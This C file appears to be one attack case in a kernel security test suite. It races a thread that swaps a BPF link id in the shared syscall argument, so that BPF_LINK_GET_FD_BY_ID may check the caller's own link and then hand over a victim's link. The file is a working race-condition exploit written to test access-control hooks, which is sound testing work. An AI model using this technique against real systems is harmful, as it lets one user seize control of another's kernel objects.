// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Asks for a link of its own by its id, while another thread exchanges that id for one of the victim's: a hook that judges
 * what the caller still can write to would be led to judge another.
 * Success: the victim's link.
 */
#include "bpf.h"
#include <pthread.h>

static union bpf_attr attr;
static uint32_t own, others;
static volatile bool is_over;

static void *exchange(void *unused)
{
	(void)unused;
	while (!is_over) {
		*(volatile uint32_t *)&attr.link_id = own;
		*(volatile uint32_t *)&attr.link_id = others;
	}
	return NULL;
}

static void run(void)
{
	struct program program = { .type = BPF_PROG_TYPE_CGROUP_SKB, .attach_type = BPF_CGROUP_INET_INGRESS };
	int group = must("open a cgroup", open("/sys/fs/cgroup", O_RDONLY | O_DIRECTORY)), pass;
	pthread_t thread;

	pass = must("BPF_PROG_LOAD", LOAD(program, SET(BPF_REG_0, 1), RETURN));
	own = must("BPF_OBJ_GET_INFO_BY_FD", number_of(must("BPF_LINK_CREATE", create_link(pass, group, BPF_CGROUP_INET_INGRESS))));
	others = id_of("victim/links/hold");
	must("pthread_create", -pthread_create(&thread, NULL, exchange, NULL));
	for (int tries = 0; tries < 50000; tries++) {
		int link = act("BPF_LINK_GET_FD_BY_ID", bpf(BPF_LINK_GET_FD_BY_ID, &attr, sizeof(attr)));

		if (link < 0)
			continue;
		if (must("BPF_OBJ_GET_INFO_BY_FD", number_of(link)) == others)
			got("a descriptor of a link");
		close(link);
	}
	is_over = true;
	pthread_join(thread, NULL);
	act("BPF_LINK_GET_FD_BY_ID", by_id(BPF_LINK_GET_FD_BY_ID, others, 0));
}

ATTACK("exchanges the id of a link while it is judged", .run = run);
